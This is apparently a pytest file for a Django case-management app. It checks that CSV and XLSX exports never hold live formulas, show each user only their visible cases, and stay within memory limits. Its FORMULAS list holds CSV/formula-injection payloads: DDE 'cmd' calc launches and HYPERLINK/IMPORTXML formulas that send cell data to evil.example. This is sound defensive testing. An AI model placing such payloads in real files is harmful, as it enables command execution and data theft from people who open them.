"""What is exported: exactly what one may see, as text that never calculates, in little memory."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from agreements.models import Service
from people.actors import Actor
from people.models import Grant, Unit, User
from people.roles import Role
from tests.changes.walking import DAY, Walk, walk
from tests.proof.house import House
from tests.proof.scale import rounds
from tests.world import NOON
from workflows.actions import claim_task, watch_case
from workflows.invariants import violations
from workflows.models import Case

FORMULAS = [
    "=1+1", "+1+1", "-2+3", "@SUM(1,1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", '=HYPERLINK("http://evil.example/?x="&A1,"Error")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', '"=1+1', '";=1+1;"', "x;=1+1",
    "x\t=1+1", "x\n=1+1\ny", "x\r\n@SUM(1)", '=1+1";=2+5;"', "=DDE(\"cmd\";\"/C calc\";\"a\")",
    "'=1+1", "=é_x0041_", "\ufeff=1+1", "\u200b=1+1", "-1", "=\x0b1", "_x003D_1+1", "－－\ufffe1",
]  # fmt: skip
"""What spreadsheets would calculate; every one is put into every column that is text."""

TEXTS = (2, 4, 5, 6, 13)
"""Title, requester, unit, system, with whom: the columns whose words people choose."""
MOMENTS = (8, 10)
NUMBERS = (11,)
STARTS = tuple("=+-@＝＋－＠")


def fetch(person: User, form: str, query: str = "") -> bytes:
    client = Client()
    client.force_login(person)
    answer = client.get(f"/cases/export.{form}{query}")
    content = answer.getvalue()
    answer.close()
    return content


@pytest.fixture
def formulas(world):
    """File one case per formula; return its row of texts as the database has it, by number."""
    group, service = Unit.objects.get(code="group"), Service.objects.get(code="erp")
    texts = {}
    for n, formula in enumerate(FORMULAS):
        unit = Unit.objects.create(code=f"u{n}", name=formula, parent=group, kind="office")
        people = [
            User.objects.create(username=f"{role}{n}", display_name=formula, unit=unit)
            for role in ("asks", "works")
        ]
        Grant.objects.create(user=people[1], role=Role.SERVICE_DESK, unit=group, from_at=NOON - DAY)
        system = Service.objects.create(
            code=f"s{n}", name=formula, kind="system", parent=service.parent, owner=service.owner
        )
        world[f"asks{n}"] = people[0]
        step = Walk(world, by=f"asks{n}", title=f"{formula}", service=system.code)
        claim_task(task=step.task, actor=people[1], at=step.at)
        texts[step.case.number] = [step.case.title, formula, formula, formula, formula]
    return texts


def test_no_cell_of_a_workbook_calculates(world, formulas):
    content = fetch(world["service_manager"], "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    assert not [name for name, part in parts.items() if b"<f>" in part or b"<f " in part]
    assert not [name for name in parts if "externalLink" in name or "_rels/sheet" in name]
    rows = list(load_workbook(io.BytesIO(content)).active.rows)[1:]
    assert {row[0].value for row in rows} == set(formulas)
    for row in rows:
        assert [row[n].data_type for n in (0, *TEXTS)] == ["s"] * 6
        assert [row[n].data_type for n in (*MOMENTS, *NUMBERS)] == ["d", "d", "n"]
        found = [unescape(row[n].value) for n in TEXTS]
        assert found == formulas[row[0].value]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_csv_calculates_whatever_ends_a_cell(world, formulas, delimiter):
    text = fetch(world["service_manager"], "csv").decode("utf-8-sig")
    cells = [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]
    ours = re.compile(r"-\d+\.\d\d")  # a number of hours
    wrong = [
        cell
        for cell in cells
        if cell.lstrip(" \t\r\n\u3000\u200b\ufeff").startswith(STARTS) and not ours.fullmatch(cell)
    ]
    assert wrong == []
    assert len(cells) >= len(formulas)


def test_a_csv_changes_text_by_apostrophes_alone(world, formulas):
    text = fetch(world["service_manager"], "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert {row[0] for row in rows} == set(formulas)
    for row in rows:
        for place, kept in zip(TEXTS, formulas[row[0]], strict=True):
            assert row[place].replace("'", "") == kept.replace("'", "")


def test_everybody_exports_what_they_see_and_nothing_else(world):
    for state in ("submitted", "returned", "awaiting_approval", "in_development", "testing",
                  "closed", "withdrawn"):  # fmt: skip
        walk(world, state)
    Walk(world, by="pm", on_behalf_of="requester2", title="for another")
    watch_case(case=walk(world).case, actor=world["service_manager"], at=NOON)
    counts = set()
    for person in world.values():
        for query in ("", "?status=open", "?q=another", "?state=testing"):
            seen = listed(person, query)
            visible = Case.objects.visible_to(Actor.of(person, timezone.now()))
            if not query:
                assert seen == [case.number for case in visible]
            assert numbers(fetch(person, "csv", query), "csv") == seen
            assert numbers(fetch(person, "xlsx", query), "xlsx") == seen
            counts.add(len(seen))
    assert len(counts) > 3
    assert list(violations(timezone.now())) == []


def listed(person: User, query: str) -> list[str]:
    client = Client()
    client.force_login(person)
    return [row.case.number for row, _cells in client.get(f"/cases/{query}").context["rows"]]


def numbers(content: bytes, form: str) -> list[str]:
    if form == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        return [row[0] for row in rows[1:]]
    return [row[0] for row in list(load_workbook(io.BytesIO(content)).active.values)[1:]]


@pytest.mark.parametrize("database", ["postgresql", "sqlite"])
def test_a_long_list_is_exported_in_little_memory_and_few_statements(
    database: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    house = (
        request.getfixturevalue("house") if database == "postgresql" else House(tmp_path).found()
    )
    rows = rounds(full=100_000, short=5_000)
    took = json.loads(house.python("-m", "tests.proof.exporting", str(rows)).splitlines()[-1])
    print(f"{database}: {took}")
    for form in ("csv", "xlsx"):
        assert took[form]["rows"] == rows
        assert took[form]["statements"] <= 2 * -(-rows // 500) + 12
        assert took[form]["megabytes"] < 40
